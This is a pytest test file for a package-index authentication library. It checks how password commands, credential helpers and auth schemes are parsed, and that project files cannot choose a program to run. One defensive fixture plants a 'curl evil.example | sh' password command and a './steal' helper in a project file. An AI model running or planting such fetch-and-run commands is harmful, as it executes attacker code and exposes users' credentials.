"""Where password commands, credential helpers and `auth` can be configured, and where not."""

from __future__ import annotations

import logging
from pathlib import Path

import pytest

from indexauth import ConfigurationError, Index
from indexauth._settings import load

URL = "https://pkgs.example.com/simple/"


def write(path: Path, text: str) -> Path:
    """Write *text* to *path*, making its directory."""
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text, "utf-8")
    return path


def user_config(tmp_path: Path, body: str) -> dict[str, str]:
    """An environment whose user config.toml holds *body*."""
    path = write(tmp_path / "config" / "config.toml", body)
    return {"INDEXAUTH_CONFIG": str(path)}


def test_user_config_string_is_split_as_a_shell_would(tmp_path: Path) -> None:
    """`password-command` as one string becomes words, quotes honoured; nothing runs a shell."""
    env = user_config(
        tmp_path,
        f'[[index]]\nname = "ca"\nurl = "{URL}"\nusername = "aws"\n'
        "password-command = \"aws codeartifact get-authorization-token --domain 'my d' --output text\"\n",
    )
    (index,) = load(env, tmp_path / "project")
    assert index.password_command == (
        "aws", "codeartifact", "get-authorization-token", "--domain", "my d", "--output", "text",
    )
    assert index.credential_helper is None


def test_user_config_list_helper_and_bearer(tmp_path: Path) -> None:
    """`credential-helper` as a list and `auth = "bearer"` reach the Index."""
    env = user_config(
        tmp_path,
        f'[[index]]\nurl = "{URL}"\ncredential-helper = ["my-helper", "--profile", "x"]\nauth = "Bearer"\n',
    )
    (index,) = load(env, tmp_path / "project")
    assert index.credential_helper == ("my-helper", "--profile", "x")
    assert index.auth == "bearer"


def test_environment_variables_set_and_adjust(tmp_path: Path) -> None:
    """_PASSWORD_COMMAND, _CREDENTIAL_HELPER and _AUTH work on an env index and on one defined in a file."""
    env = {
        **user_config(tmp_path, f'[[index]]\nname = "corp"\nurl = "{URL}"\n'),
        "INDEXAUTH_INDEX_CORP_PASSWORD_COMMAND": "gcloud auth print-access-token",
        "INDEXAUTH_INDEX_CORP_AUTH": "bearer",
        "INDEXAUTH_INDEX_GL_URL": "https://gitlab.example.com/api/v4/projects/1/packages/pypi/simple",
        "INDEXAUTH_INDEX_GL_CREDENTIAL_HELPER": "glab-helper",
    }
    by_name = {i.name: i for i in load(env, tmp_path / "project")}
    assert by_name["corp"].password_command == ("gcloud", "auth", "print-access-token")
    assert by_name["corp"].auth == "bearer"
    assert by_name["gl"].credential_helper == ("glab-helper",)


@pytest.mark.parametrize(
    ("env", "culprit"),
    [
        ({"INDEXAUTH_INDEX_X_URL": URL, "INDEXAUTH_INDEX_X_AUTH": "digest"}, "auth"),
        ({"INDEXAUTH_INDEX_X_URL": URL, "INDEXAUTH_INDEX_X_PASSWORD_COMMAND": "get 'token"}, "quotation"),
        ({"INDEXAUTH_INDEX_X_URL": URL, "INDEXAUTH_INDEX_X_PASSWORD_COMMAND": "a", "INDEXAUTH_INDEX_X_CREDENTIAL_HELPER": "b"}, "both"),
    ],
)
def test_bad_values_name_the_variable(env: dict[str, str], culprit: str) -> None:
    """A bad value is one ConfigurationError naming the variable and what is wrong."""
    with pytest.raises(ConfigurationError) as info:
        load(env, "/nonexistent")
    assert "INDEXAUTH_INDEX_X_URL" in str(info.value)
    assert culprit in str(info.value)


@pytest.mark.parametrize("name", ["uv.toml", "pyproject.toml"])
def test_working_directory_files_never_set_a_program(
    tmp_path: Path, name: str, caplog: pytest.LogCaptureFixture
) -> None:
    """A cloned repository's command or helper is ignored with a warning; its index stays, program-less."""
    table = "[[index]]" if name == "uv.toml" else "[[tool.uv.index]]"
    project = tmp_path / "project"
    write(
        project / name,
        f'{table}\nname = "evil"\nurl = "https://evil.example/simple/"\n'
        'password-command = "sh -c \'curl evil.example | sh\'"\n'
        f'{table}\nname = "helped"\nurl = "https://other.example/simple/"\n'
        'credential-helper = ["./steal"]\nauth = "bearer"\n',
    )
    with caplog.at_level(logging.WARNING, logger="indexauth"):
        indexes = load({}, project)
    assert [(i.name, i.password_command, i.credential_helper) for i in indexes] == [
        ("evil", None, None),
        ("helped", None, None),
    ]
    assert indexes[1].auth == "bearer"  # the scheme is no program: a project may choose it
    warnings = [r.getMessage() for r in caplog.records if r.levelno == logging.WARNING]
    assert len(warnings) == 2
    assert all(str(project / name) in w and "cannot choose a program to run" in w for w in warnings)
    assert "'password-command' ignored" in warnings[0]
    assert "'credential-helper' ignored" in warnings[1]


def test_your_variable_never_gives_a_command_to_a_working_directory_index(
    tmp_path: Path, caplog: pytest.LogCaptureFixture
) -> None:
    """INDEXAUTH_INDEX_<NAME>_PASSWORD_COMMAND does not follow a name a project file chose."""
    project = tmp_path / "project"
    write(project / "uv.toml", '[[index]]\nname = "corp"\nurl = "https://evil.example/simple/"\n')
    env = {"INDEXAUTH_INDEX_CORP_PASSWORD_COMMAND": "aws codeartifact get-authorization-token"}
    with caplog.at_level(logging.WARNING, logger="indexauth"):
        (index,) = load(env, project)
    assert index.password_command is None
    assert any(
        "INDEXAUTH_INDEX_CORP_PASSWORD_COMMAND not used" in r.getMessage() for r in caplog.records
    )


def test_index_argument_forms() -> None:
    """Index(password_command=...) takes a list or a string; bad ones are ConfigurationErrors."""
    assert Index(URL, password_command=["a", "b c"]).password_command == ("a", "b c")
    assert Index(URL, credential_helper="h --x 'y z'").credential_helper == ("h", "--x", "y z")
    for bad in ([], "", "   ", [1, 2], 5):
        with pytest.raises(ConfigurationError):
            Index(URL, password_command=bad)  # type: ignore[arg-type]
    with pytest.raises(ConfigurationError, match="both"):
        Index(URL, password_command="a", credential_helper="b")
    with pytest.raises(ConfigurationError, match="bearer"):
        Index(URL, auth="token")


def test_repr_shows_only_the_first_word() -> None:
    """The rest of a command line may hold a secret: the repr shows the program only."""
    index = Index(URL, password_command=["vault", "read", "--token=s3cr3t"], auth="bearer")
    assert "s3cr3t" not in repr(index)
    assert "'vault'" in repr(index) and "auth='bearer'" in repr(index)
